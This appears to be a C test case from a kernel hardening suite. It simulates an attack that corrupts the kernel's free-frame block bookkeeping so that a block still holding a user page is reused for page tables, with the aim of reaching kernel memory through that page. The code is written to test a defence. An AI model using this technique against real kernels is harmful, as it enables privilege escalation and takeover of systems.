// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("pgtable_integrity", "block_reused",
       "pgtable_integrity: a block given up with a frame in use",
       "The program corrupts the maps of free frames until the kernel takes the block "
       "of its own page for kernel memory.",
       "A block whose frames are not all clear and unmapped, say their sealed marks, does not "
       "change its kind.",
       "The program reads and writes kernel memory through a page of its own.");

static bool control(void)
{
	return is_ordinary();
}

#define PAGES 700
#define TABLES 1500ul
#define TABLE_SHOWS (2ul << 20)

static uint64_t frame_of(uint64_t root, volatile char *page)
{
	return peek(table_entry(root, (uint64_t)page, 1)) & ENTRY_ADDRESS;
}

/*
 * The CPU's cache is about to give 32 frames back, all of the block: with the last of them, says
 * the kernel's ordinary memory, all of the block is free.
 */
static void corrupt(uint64_t cpu, uint64_t block)
{
	const uint64_t entry = peek(symbol("frame_memory") + member("frame_memory.blocks")) +
			       block * member("block.SIZE");
	const uint64_t lists = symbol("block_lists") + 3 * member("block_list.SIZE");
	const uint64_t frames = peek(symbol("frame_arrays") + member("frame_arrays.frames"));
	const uint64_t cache = peek(cpu + member("cpu.frame_cache"));
	const uint64_t dirty = cache + member("frame_cache.dirty");
	const uint64_t clean = cache + member("frame_cache.clean") + 3 * member("frame_stack.SIZE");
	const uint64_t slots = dirty + member("frame_stack.slots");

	if (peek32(dirty + member("frame_stack.count")) != 32 ||
	    peek32(clean + member("frame_stack.count")) != 64)
		return;
	for (unsigned int i = 0; i < 32; i++)
		if ((peek(slots + 8 * i) - frames) / 16 / 512 != block)
			return;
	poke32(entry + member("block.free_count"), 512 - 32);
	for (unsigned int i = 0; i < 8; i++)
		poke(entry + member("block.free") + 8 * i, 0);
	poke(lists + member("block_list.free_frames"), 100000);
}

/* The next block that anybody takes is this one. */
static void offer(uint64_t block)
{
	const uint64_t pool = peek(symbol("frame_memory") + member("frame_memory.pool"));
	const uint32_t count = peek32(symbol("pool_count"));

	for (uint32_t i = 0; i < count; i++)
		poke32(pool + 4 * i, (uint32_t)block);
}

static bool fire(void)
{
	const uint64_t root = own_root(own_task()), cpu = own_cpu(1);
	const uint64_t kinds = peek(symbol("frame_arrays") + member("frame_arrays.kinds"));
	volatile char *pages =
		(volatile char *)call6(__NR_mmap, 0, PAGES * 4096, PROT_READ | PROT_WRITE,
				       MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	volatile char *zeros =
		(volatile char *)call6(__NR_mmap, 0, TABLES * TABLE_SHOWS, PROT_READ,
				       MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	uint64_t block;

	for (unsigned long i = 0; i < PAGES; i++)
		pages[i * 4096] = 1;
	block = frame_of(root, pages + 300 * 4096) >> 21;
	for (unsigned long i = 0; i < PAGES && peek8(kinds + block) == 3; i++) {
		if (i == 300 || frame_of(root, pages + i * 4096) >> 21 != block)
			continue;
		corrupt(cpu, block);
		call2(__NR_munmap, (long)pages + (long)i * 4096, 4096);
	}
	if (peek8(kinds + block) != 0)
		return false;
	/* Each page of zeros is the first in a page table: it is tables that take the block. */
	for (unsigned long i = 0; i < TABLES && peek8(kinds + block) == 0; i++) {
		offer(block);
		(void)zeros[i * TABLE_SHOWS];
	}
	return peek8(kinds + block) == 1 || peek8(kinds + block) == 2;
}

static void victim(void)
{
	victim_waits();
}
